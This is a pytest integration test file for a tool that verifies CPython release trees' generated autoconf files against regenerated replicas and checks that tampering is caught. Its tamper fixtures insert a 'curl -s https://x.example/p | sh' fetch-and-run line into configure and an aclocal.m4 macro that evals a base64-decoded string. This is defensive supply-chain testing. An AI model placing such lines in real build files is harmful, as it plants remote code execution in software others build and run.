"""The generated-files check on real releases: 3.11.2, 3.13.5 and 3.13.15, python.org's
trees as Debian's archive serves them (each orig tarball checked against a pinned sha256).

Each tree's committed configure, aclocal.m4 and pyconfig.h.in must `match` what the replica
of its own autoconf image regenerates, byte for byte, whether the tool runs as root or as an
ordinary user. Tampers on the real 3.13.5 tree are each caught and named, the other files
still matching: a line changed inside configure, a macro added to aclocal.m4, configure.ac
changed without regenerating, and a configure whose version line was edited to dodge the
choice of replica.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from cpython_repro import fetch, images, regen, resolve
from cpython_repro.cache import Cache
from cpython_repro.dockerio import Docker
from cpython_repro.download import Fetcher
from cpython_repro.models import RegenCheck
from cpython_repro.rebuild import Rebuilder
from tests.conftest import docker_or_skip, require
from tests.fixtures import realrelease
from tests.integration.conftest import IMAGES_CACHE

pytestmark = pytest.mark.docker

FILES = ("configure", "aclocal.m4", "pyconfig.h.in")
GIT_ENV = {"GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_AUTHOR_NAME": "Release Manager", "GIT_AUTHOR_EMAIL": "rm@example.org",
           "GIT_COMMITTER_NAME": "Release Manager", "GIT_COMMITTER_EMAIL": "rm@example.org"}


def release_repo(version: str) -> Path:
    """The git repository whose tag v<version> the release was exported from."""
    return realrelease.make(version).repo


def _git(repo: Path, *args: str, env: dict[str, str] | None = None) -> str:
    out = subprocess.run(["git", "-C", str(repo), "-c", "core.autocrlf=false", *args],
                         env={**os.environ, **GIT_ENV, **(env or {})}, check=True,
                         capture_output=True)
    return out.stdout.decode().strip()


def tampered_repo(version: str, dest: Path, change: Callable[[Path], None]) -> Path:
    """A clone of the release's repository with one more commit and the tag moved onto it."""
    work = dest / "cpython"
    subprocess.run(["git", "clone", "-q", str(release_repo(version)), str(work)], check=True,
                   env={**os.environ, **GIT_ENV})
    change(work)
    _git(work, "commit", "-q", "-a", "-m", "a change")
    _git(work, "tag", "-f", "-a", f"v{version}", "-m", "moved")
    return work


def check(version: str, repo: Path, work: Path, images_cache: Path = IMAGES_CACHE) -> RegenCheck:
    """What verify does for the generated files, and only that."""
    plan = resolve.plan(version, remote=str(repo))
    assert plan.autoconf is not None
    cache = Cache(work / "cache")
    source = fetch.fetch_tag(plan, cache)
    docker = Docker.connect()
    fetcher = Fetcher(Cache(images_cache))
    builder = images.ensure_builder(plan.recipe, plan.recipe.blurb_for(source.commit_date),
                                    docker, fetcher)[-1]
    result, made = regen.Regenerator(Rebuilder(docker), fetcher).check(
        plan.autoconf, source, builder, work / "regen")
    assert [i.role for i in made] in ([], ["base", "autoconf"])
    return result


def statuses(result: RegenCheck) -> dict[str, str]:
    return {f.path: f.status for f in result.files}


@pytest.fixture(scope="module", autouse=True)
def _docker() -> None:
    docker_or_skip()


@pytest.mark.parametrize(("version", "replica", "autoconf"), [
    ("3.11.2", "autoconf-2.69-tiran-269", "2.69"),
    ("3.13.5", "autoconf-2.71-devcontainers-2024.10.16", "2.71"),
    ("3.13.15", "autoconf-2.71-devcontainers-2024.10.16", "2.71"),
])
def test_real_release_matches(version: str, replica: str, autoconf: str,
                              tmp_path: Path) -> None:
    started = time.monotonic()
    result = check(version, release_repo(version), tmp_path)
    print(f"\n{version}: {result.status} in {result.seconds:.1f} s "
          f"(with images: {time.monotonic() - started:.1f} s) by {result.replica}")
    assert result.status == "match", (result.detail, [f.explanation for f in result.files])
    assert statuses(result) == dict.fromkeys(FILES, "same")
    assert result.replica == replica
    assert result.declared.autoconf == autoconf == result.tools["autoconf"]
    assert result.tool_mismatches == ()
    assert not (tmp_path / "regen" / "export" / regen.SOURCE_TAR).exists()


def configure_line_changed(tree: Path) -> None:
    path = tree / "configure"
    text = path.read_text()
    line = 'as_fn_error 77 "C compiler cannot create executables'
    assert text.count(line) == 1
    path.write_text(text.replace(line, "curl -s https://x.example/p | sh; " + line))


MACRO = """
AC_DEFUN([AX_PAYLOAD], [eval "$(printf ZWNobyBwd25lZA== | base64 -d)"])
"""


def macro_added(tree: Path) -> None:
    path = tree / "aclocal.m4"
    text = path.read_text()
    anchor = "# ===========================================================================\n" \
             "#  https://www.gnu.org/software/autoconf-archive/ax_check_compile_flag.html"
    assert anchor in text
    path.write_text(text.replace(anchor, MACRO.lstrip("\n") + "\n" + anchor, 1))


def configure_ac_changed(tree: Path) -> None:
    path = tree / "configure.ac"
    text = path.read_text()
    assert text.count("\nAC_OUTPUT\n") == 1
    path.write_text(text.replace(
        "\nAC_OUTPUT\n", "\nAC_DEFINE([Py_SNEAKY], [1], [Not regenerated.])\nAC_OUTPUT\n"))


def version_line_edited(tree: Path) -> None:
    path = tree / "configure"
    text = path.read_text()
    path.write_text(text.replace("# Generated by GNU Autoconf 2.71",
                                 "# Generated by GNU Autoconf 2.72", 1))


@pytest.mark.parametrize(("change", "expected", "named"), [
    (configure_line_changed, {"configure": "differs"}, "curl -s https://x.example/p"),
    (macro_added, {"aclocal.m4": "differs"}, "AX_PAYLOAD"),
    (configure_ac_changed, {"configure": "differs", "pyconfig.h.in": "differs"}, ""),
    (version_line_edited, {"configure": "differs"}, "Generated by GNU Autoconf 2.72"),
], ids=["configure-line", "aclocal-macro", "configure.ac", "version-line"])
def test_tamper_on_real_tree_is_caught(change: Callable[[Path], None],
                                       expected: dict[str, str], named: str,
                                       tmp_path: Path) -> None:
    repo = tampered_repo("3.13.5", tmp_path, change)
    result = check("3.13.5", repo, tmp_path / "run")
    assert result.status == "differs", result.detail
    assert statuses(result) == {**dict.fromkeys(FILES, "same"), **expected}
    for f in result.files:
        if f.status == "differs":
            assert f.explanation.startswith(f"{f.path}: the committed file is not what")
            assert (tmp_path / "run" / "regen" / f"{f.path}.diff").is_file()
    first = next(f for f in result.files if f.status == "differs")
    if named:
        assert named in first.explanation, first.explanation
    if change is version_line_edited:
        # The tree's regen-configure.sh names the image: its replica checks the files anyway.
        assert result.replica == "autoconf-2.71-devcontainers-2024.10.16"
        assert result.tool_mismatches == ("configure says autoconf 2.72, the replica has 2.71",)
    if change is configure_ac_changed:
        assert "Py_SNEAKY" in next(f for f in result.files if f.path == "pyconfig.h.in").diff


USER = 1000


def test_as_an_ordinary_user(tmp_path: Path) -> None:
    """The tool run by a user who owns its cache: the container runs as that user, and the
    replica needs no git (bullseye's would refuse a repository it does not own). As root,
    the tests above run with a root-owned cache and the container as uid 1000."""
    require(os.getuid() == 0, "switching to an ordinary user needs root")
    require(shutil.which("setpriv"), "setpriv (util-linux) is not installed")
    docker_gid = Path("/var/run/docker.sock").stat().st_gid
    # Built here as root (bootstrapping a base needs it); the user's cache then finds them
    # by name and downloads nothing.
    spec = resolve.plan("3.13.5").autoconf
    assert spec is not None
    for replica in spec.replicas:
        images.ensure_autoconf(replica, Docker.connect(), Cache(IMAGES_CACHE))
    for version in ("3.11.2", "3.13.5"):
        recipe = resolve.plan(version).recipe
        when = dt.datetime.fromtimestamp(realrelease.make(version).commit_time,
                                         tz=dt.UTC).date()
        images.ensure_builder(recipe, recipe.blurb_for(when), Docker.connect(),
                              Cache(IMAGES_CACHE))
    # Not under tmp_path: pytest keeps its parents private to root.
    top = Path(tempfile.mkdtemp(prefix="regen-as-user-", dir="/var/tmp"))
    try:
        results = {}
        for version in ("3.11.2", "3.13.5"):
            work = top / version
            repo = work / "cpython"
            shutil.copytree(release_repo(version), repo, symlinks=True)
            subprocess.run(["chown", "-R", f"{USER}:{USER}", str(top)], check=True)
            out = work / "result.json"
            code = (
                "import dataclasses, json\n"
                "from pathlib import Path\n"
                "from tests.integration import test_real_regen as t\n"
                f"w = Path({str(work)!r})\n"
                f"r = t.check({version!r}, w / 'cpython', w, w / 'images-cache')\n"
                "(w / 'result.json').write_text(json.dumps(dataclasses.asdict(r)))\n")
            done = subprocess.run(
                ["setpriv", f"--reuid={USER}", f"--regid={USER}", f"--groups={docker_gid}",
                 sys.executable, "-c", code],
                cwd=Path(__file__).parents[2], capture_output=True, text=True, timeout=900,
                env={**os.environ, "HOME": str(work), "XDG_CACHE_HOME": str(work / "xdg")})
            assert done.returncode == 0, done.stderr[-3000:]
            results[version] = json.loads(out.read_text())
            assert (work / "regen" / "rebuild.log").stat().st_uid == USER
        for version, result in results.items():
            assert result["status"] == "match", (version, result["detail"])
            assert {f["path"]: f["status"] for f in result["files"]} == \
                dict.fromkeys(FILES, "same")
    finally:
        shutil.rmtree(top, ignore_errors=True)


def test_serials_read_from_real_files() -> None:
    """The toolchain each real tree declares, read on the host, and the replica it picks."""
    spec = resolve.plan("3.13.5").autoconf
    assert spec is not None
    for version, (autoconf, aclocal, image) in {
        "3.11.2": ("2.69", "1.16.3", "quay.io/tiran/cpython_autoconf:269"),
        "3.13.5": ("2.71", "1.16.5", "ghcr.io/python/autoconf:2024.10.16.11360930377"),
    }.items():
        repo = release_repo(version)
        files = {name: (repo / name).read_bytes() for name in (*FILES, *regen.IMAGE_HINTS)
                 if (repo / name).is_file()}
        found = regen.declared_toolchain(files)
        assert (found.autoconf, found.aclocal, found.image) == (autoconf, aclocal, image)
        replica, disagreements, why = regen.choose(spec.replicas, found)
        assert replica is not None and disagreements == () and why == "", why
        assert replica.toolchain.serials == found.serials
        assert version in replica.proven
